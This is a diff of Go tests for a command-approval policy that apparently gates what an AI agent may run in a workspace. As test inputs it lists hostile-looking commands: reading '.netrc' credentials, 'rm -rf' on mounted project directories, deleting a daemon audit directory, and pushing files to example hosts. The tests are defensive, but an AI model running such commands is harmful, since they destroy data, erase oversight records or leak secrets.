@@ -122,12 +122,40 @@ func TestUnverifiedIsTheHost(t *testing.T) {
 	if d := decided(t, h.records()[at]); d.Profile != "host" || d.Level != "CONFIRM" {
 		t.Errorf("a control that is not verified: %+v", d)
 	}
+	for _, held := range []string{"sudo make install", "crontab jobs", "cat .netrc", "curl https://example.org/", "docker compose up"} {
+		if h.passes(alice, "demo", "user", strings.Fields(held)...) {
+			t.Errorf("%s passes unasked", held)
+		}
+	}
 	h.rt.setReport(report())
 	if _, err := h.Stop(ctx, alice, "demo"); err != nil { // it is proved anew when it starts
 		t.Fatal(err)
 	}
 	if _, _, err := h.Run(ctx, alice, "demo", touch); err != nil {
 		t.Error(err)
+	}
+}
+
+// What empties a directory of the host is asked about: the mounts that a workspace has reach the policy.
+func TestMountsAreJudged(t *testing.T) {
+	h := newHouse(t)
+	h.create(alice, "demo")
+	if !h.passes(alice, "demo", "llm", "sh", "-c", "cd /workspace && rm -rf *") {
+		t.Error("it is asked about a workspace without mounts")
+	}
+	h.rt.mounts("ws-2a97516c", []workspace.Mount{
+		{Source: "/a", Destination: "/workspace"}, {Source: "/b", Destination: "/mnt/b", ReadOnly: true},
+	})
+	if err := h.Recover(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	if h.passes(alice, "demo", "llm", "sh", "-c", "cd /workspace && rm -rf *") {
+		t.Error("a project is emptied unasked")
+	}
+	for _, held := range []string{"rm -rf /workspace/build", "rm -rf /mnt/b"} { // the second is read-only
+		if !h.passes(alice, "demo", "llm", "sh", "-c", held) {
+			t.Errorf("%s is asked about", held)
+		}
 	}
 }
 
@@ -142,7 +170,7 @@ func TestExplainIsWhatWouldBeDecided(t *testing.T) {
 	}
 	calls, at := fmt.Sprint(h.rt.calls), len(h.records())
 	for _, argv := range [][]string{
-		{"ls"}, {"sh", "-c", "true && ls; rm -rf /var/lib/carrel/daemon/audit"}, {"curl", "-d", "@x", "https://example.com/in"},
+		{"ls"}, {"sh", "-c", "true && ls; rm -rf /var/lib/carrel/daemon/audit"}, {"git", "push", "https://example.com/in", "x"},
 	} {
 		d, verified, assumed, err := explain(alice, argv...)
 		if err != nil || !verified || assumed || d.Profile != policy.Workspace || !slices.ContainsFunc(d.Segments, func(s policy.Segment) bool {
@@ -292,7 +320,7 @@ func TestDecisionIsClipped(t *testing.T) {
 	h.create(alice, "demo")
 	var text strings.Builder
 	for i := range 400 {
-		fmt.Fprintf(&text, "curl https://h%d.example/%s -d @f;", i, strings.Repeat("€", 60))
+		fmt.Fprintf(&text, "git push https://h%d.example/%s f;", i, strings.Repeat("€", 60))
 	}
 	e := run("sh", "-c", text.String())
 	e.Asked.WaitMS = -1
